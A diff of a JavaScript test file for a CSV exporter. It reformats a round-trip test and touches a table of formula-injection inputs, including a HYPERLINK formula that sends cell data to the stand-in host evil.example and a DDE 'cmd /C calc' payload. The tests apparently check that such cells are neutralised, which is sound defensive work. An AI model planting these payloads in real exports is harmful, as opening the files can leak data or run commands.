@@ -19,8 +19,15 @@ describe('toCsv', () => {
   });
 
   it('quotes commas, quotes and line breaks and reads back to the same text', () => {
-    const rows = [{ id: 'a', text: 'the "OSCE"\nsays, twice' }, { id: '', text: '' }];
-    expect(parse(toCsv(['id', 'text'], rows), { bom: true })).toEqual([['id', 'text'], ['a', 'the "OSCE"\nsays, twice'], ['', '']]);
+    const rows = [
+      { id: 'a', text: 'the "OSCE"\nsays, twice' },
+      { id: '', text: '' },
+    ];
+    expect(parse(toCsv(['id', 'text'], rows), { bom: true })).toEqual([
+      ['id', 'text'],
+      ['a', 'the "OSCE"\nsays, twice'],
+      ['', ''],
+    ]);
   });
 
   it('writes null and undefined as empty cells, and true and false as words', () => {
@@ -29,7 +36,7 @@ describe('toCsv', () => {
 
   it.each([
     ['=', '=HYPERLINK("https://evil.example/?"&A1,"Source")'],
-    ['+', '+1+cmd|\' /C calc\'!A0'],
+    ['+', "+1+cmd|' /C calc'!A0"],
     ['-', '-2+3'],
     ['@', '@SUM(A1:A9)'],
     ['a tab', '\t=1+1'],
